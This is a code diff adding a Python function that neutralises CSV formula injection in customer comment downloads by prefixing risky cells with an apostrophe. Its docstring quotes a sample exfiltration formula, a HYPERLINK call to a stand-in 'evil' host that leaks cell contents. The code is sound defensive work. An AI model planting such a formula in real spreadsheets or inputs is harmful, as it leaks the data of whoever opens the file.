@@ -328,6 +328,29 @@ def comment_text(text: Any, mask: bool) -> str:
     return (mask_contacts(str(text)) or "") if mask else str(text)
 
 
+#: A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_safe(frame: Any) -> Any:
+    """A copy for a CSV download in which no text cell can run as a spreadsheet formula.
+
+    Comments and ids come from customers: `=HYPERLINK("http://evil/?"&A1, "click")` typed into a
+    survey would run when a colleague opens the download. Such cells get a leading apostrophe
+    (OWASP's advice for CSV injection), which spreadsheets show as the text typed.
+    """
+    import pandas as pd
+
+    out = frame.copy()
+    for column in out.columns:
+        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
+            out[column] = [
+                "'" + v if isinstance(v, str) and v.startswith(_FORMULA_START) else v
+                for v in out[column]
+            ]
+    return out
+
+
 _MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~:$&])")
 
 
